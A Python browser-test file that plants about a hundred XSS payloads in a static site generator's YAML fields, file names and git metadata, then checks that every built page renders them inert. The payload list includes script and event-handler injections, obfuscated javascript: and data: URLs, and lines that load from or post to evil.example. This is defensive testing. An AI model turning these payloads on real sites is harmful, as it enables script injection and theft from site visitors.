"""Hostile texts in every field: in the browser they are words, and nothing else.

Every free text of the sample company is replaced by a payload, in turn, under the most open policy,
so that each payload stands in many fields and on many pages; git's history is hostile, too.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from itertools import count
from pathlib import Path
from urllib.parse import quote

import pytest
from ruamel.yaml import YAML

from perfgit.files.trees import WorkingTree
from perfgit.rules.engine import check
from perfgit.site.build.build import build
from tests.browser.conftest import TODAY, served

HIT = "window.__hit=1"
EVENTS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "onbegin", "ontoggle", "onstart"),
    *(
        "onanimationstart",
        "onpointerenter",
        "onbeforetoggle",
        "onscroll",
        "oncontentvisibilityautostatechange",
    ),
)
ELEMENTS = (
    *("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "marquee"),
    *("iframe", "a href=x", "math", "select autofocus", "textarea autofocus", "audio src=x"),
)
SCHEMES = (
    *("javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " javascript:{}", "\x01javascript:{}"),
    *("javascript&colon;{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "jav&#x09;ascript:{}"),
    *(
        "data:text/html,<script>{}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
    ),
    *(
        "vbscript:{}",
        "view-source:{}",
        "blob:{}",
        "javascript://%0a{}",
        "ｊavascript:{}",
        "javas\u200bcript:{}",
    ),
)
PLAIN = [
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\x0b>{}</script>",
    "<<script>{}//<</script>",
    "<!--<script>{}</script>-->",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</template><script>{}</script>",
    "</style><script>{}</script>",
    "</noscript><script>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<style>*{{background:url(//evil.example)}}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><button>send</button></form>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<svg><script>{}</script></svg>",
    "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>",
    "<svg><animate attributeName=href values='javascript:{}'/></svg>",
    "<svg><foreignObject><body onload={}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<math href='javascript:{}'>x</math>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" onmouseover={} x="',
    "' autofocus onfocus={} x='",
    "` onclick={} `",
    "&lt;img src=x onerror={}&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{}",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}",
    "＜script＞{}＜/script＞",
    "\u202e<script>{}</script>\u202c",
    "<img src=x onerror\u200b={}>",
    "<ſcript>{}</ſcript>",
    "<img src=//evil.example/pixel.gif>",
    "![pixel](https://evil.example/pixel.gif)",
    "![x](x){{: onerror={} }}",
    "# heading {{: onclick={} id=main_content }}",
    "text {{: .skip style='position:fixed' onclick={} }}",
    "*em*{{: onmouseover={} }}",
    "{{{{ site.__class__ }}}} {{% raw %}}",
    "{{% include 'org/policy.yml' %}}",
    '[ref]: javascript:{} "x"',
    "<a name=rows id=main_content class=controls data-table=rows>x</a>",
    "<a href='https://ok.example' target=_top onclick={}>x</a>",
    '<https://ok.example/"onmouseover={}>',
    "`` `<img src=x onerror={}>` ``",
    '~~~html" onload={}\n<script>{}</script>\n~~~',
    "<div data-me=//evil.example data-rows=//evil.example>x</div>",
    "<mark onclick={}>x</mark>",
    "__proto__",
    "constructor",
    "toString",
]


def payloads() -> list[str]:
    found = [one.replace("{{", "\0").replace("}}", "\1").replace("{}", HIT) for one in PLAIN]
    found = [one.replace("\0", "{").replace("\1", "}") for one in found]
    for event, element in zip(EVENTS, ELEMENTS, strict=True):
        found.append(f"<{element} {event}={HIT}>")
        found.append(f"<{element}/{event}='{HIT}'>x")
    for scheme in SCHEMES:
        link = scheme.replace("{}", HIT)
        found += [f"[x]({link})", f'<a href="{link}">x</a>', f"<{link}>"]
    return found


NOT_TEXT = {
    *("timezone", "locale", "repository", "host", "email", "github", "checkin_every", "kind"),
    *("source", "needs", "status", "what_kind", "horizon", "for", "missing_source"),
}
REFERENCE = re.compile(r"[a-z0-9][a-z0-9:/_-]*")


def hostile(company: Path) -> int:
    """Put payloads where people write; the number of texts."""
    turn = count()
    every = payloads()

    def changed(value: object, key: str) -> object:
        if isinstance(value, dict):
            return {name: changed(one, name) for name, one in value.items()}
        if isinstance(value, list):
            return [changed(one, key) for one in value]
        if not isinstance(value, str) or key in NOT_TEXT or REFERENCE.fullmatch(value):
            return value
        one = every[next(turn) % len(every)]
        return one[:40].replace("\n", " ") if key == "unit" else one.replace("\n", " ")[:300]

    for top in ("org", "goals", "reviews"):
        for path in sorted((company / top).rglob("*.yml")):
            if path.name in ("result.yml", "closing.yml"):  # figures, as texts
                continue
            data = YAML(typ="safe", pure=True).load(path.read_text("utf-8"))
            path.write_text(flow(changed(data, "")) + "\n", "utf-8")
    return next(turn)


def flow(value: object) -> str:
    """YAML in one line."""
    if isinstance(value, dict):
        return "{" + ", ".join(f"{name}: {flow(one)}" for name, one in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(map(flow, value)) + "]"
    return value.isoformat() if isinstance(value, dt.date) else json.dumps(value)


LOOK = """() => {
    const found = [];
    const fine = /^(https?:|mailto:)/;
    for (const one of document.querySelectorAll("*")) {
        const name = one.localName;
        if (["iframe", "object", "embed", "base", "style", "math", "foreignobject"].includes(name)) found.push(name);
        if (name === "script" && !/\\/js\\/(search|tables|me|goals)\\.js$/.test(one.src)) found.push(one.outerHTML);
        if (name === "link" && new URL(one.href).origin !== location.origin) found.push(one.outerHTML);
        if (name === "meta" && one.httpEquiv && one.httpEquiv !== "Content-Security-Policy") found.push(one.outerHTML);
        if (name === "img") found.push(one.outerHTML);
        if (name === "form" && !one.dataset.table) found.push(one.outerHTML);
        for (const {name: attribute, value} of one.attributes) {
            if (/^on/i.test(attribute) || attribute === "style" || attribute === "srcdoc") found.push(one.outerHTML.slice(0, 200));
            if (["href", "src", "xlink:href", "action", "formaction", "data", "poster"].includes(attribute)) {
                const url = new URL(value, location.href);
                if (!fine.test(url.protocol)) found.push(value);
                // an image is a link in its place: it loads nothing, and tells nobody where it was followed from
                const followed = name === "a" && attribute === "href" && one.relList.contains("noreferrer")
                    && one.relList.contains("noopener") && !one.target && !one.hasAttribute("ping");
                if (url.hostname === "evil.example" && !followed) found.push(value);
            }
        }
    }
    for (const id of ["main_content", "rows", "search_field"]) {
        if (document.querySelectorAll(`#${id}`).length > 1) found.push(`twice ${id}`);
    }
    if (window.__hit !== undefined) found.push("hit");
    return found;
}"""


@pytest.fixture(scope="module")
def hostile_company(open_company, tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile") / "company"
    for part in ("org", "goals", "reviews"):
        shutil.copytree(open_company / part, folder / part)
    texts = hostile(folder)
    assert texts > 4 * len(payloads())
    found = check(WorkingTree(folder)).problems
    # Otherwise a file would be left out, and its texts with it.
    assert [one for one in found if one.rule in ("schema", "unknown-field", "not-yaml")] == []
    # Names of files and ids that are payloads themselves are refused, and published nowhere.
    for name in ('"><img src=x onerror=alert(1)>', "javascript:alert(1)", "<svg onload=alert(1)>"):
        safe = name.replace("/", "")
        (folder / f"org/people/{safe}.yml").write_text("name: X\n", "utf-8")
        sheet = folder / f"goals/2026-h2/people/{safe}/goals.yml"
        sheet.parent.mkdir(parents=True)
        sheet.write_text(f"goals: [{{id: {json.dumps(name)}, title: X, weight: 100}}]\n", "utf-8")
    who = {
        f"GIT_{role}_{what}": value
        for role in ("AUTHOR", "COMMITTER")
        for what, value in (
            ("NAME", "<img src=x onerror=window.__hit=1>"),
            ("EMAIL", "javascript:window.__hit=1"),
            ("DATE", "2026-11-20T12:00:00Z"),
        )
    }
    for command in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "<script>window.__hit=1"]):
        subprocess.run(
            ["git", "-c", "commit.gpgsign=false", *command],
            cwd=folder,
            env={**os.environ, **who, "GIT_CONFIG_GLOBAL": os.devnull},
            check=True,
        )
    return folder


@pytest.fixture(scope="module")
def hostile_site(hostile_company, tmp_path_factory) -> Iterator[tuple[Path, str]]:
    folder = build(hostile_company, tmp_path_factory.mktemp("hostile") / "site", TODAY).folder
    with served(folder) as address:
        yield folder, address


def test_there_are_enough_payloads():
    assert len(set(payloads())) >= 100


def test_payloads_are_inert_on_every_page(watch, hostile_site):
    folder, address = hostile_site
    seen = watch()
    paths = sorted(folder.rglob("*.html"))
    assert len(paths) > 150
    for path in paths:
        seen.page.goto(
            f"{address}{path.relative_to(folder).as_posix()}", wait_until="domcontentloaded"
        )
        assert seen.page.evaluate(LOOK) == [], path.relative_to(folder)
    seen.quiet(address)


def test_payloads_are_inert_in_what_scripts_make(watch, hostile_site):
    _, address = hostile_site
    seen = watch()
    page = seen.page
    for path in ("goals/?sort=goal", "people/?sort=-name", "goals/?group=team&q=script"):
        page.goto(address + path)
        page.locator(".hits", has_text=" of ").wait_for()
        assert page.locator("#rows tbody tr").count() > 1
        assert page.evaluate(LOOK) == [], path
    page.locator(".search-open").click()
    for text in ("script", "img", "onerror", "javascript"):
        page.locator("#search_field").fill(text)
        page.locator(".search-results a").first.wait_for()
        page.wait_for_timeout(300)
        assert page.evaluate(LOOK) == [], text
    page.goto(address + "me/")
    page.locator(".me-choose input").fill("alice")
    page.locator(".me-found button").first.click()
    page.locator(".me-goals article").first.wait_for()
    assert page.evaluate(LOOK) == []
    seen.quiet(address)


def test_a_hostile_address_finds_nothing_to_run(watch, address):
    seen = watch()
    for text in payloads()[:12]:
        query = "&".join(f"{name}={quote(text)}" for name in ("q", "team", "sort", "group"))
        seen.page.goto(f"{address}goals/?{query}", wait_until="domcontentloaded")
        assert seen.page.evaluate(LOOK) == []
    seen.quiet(address)
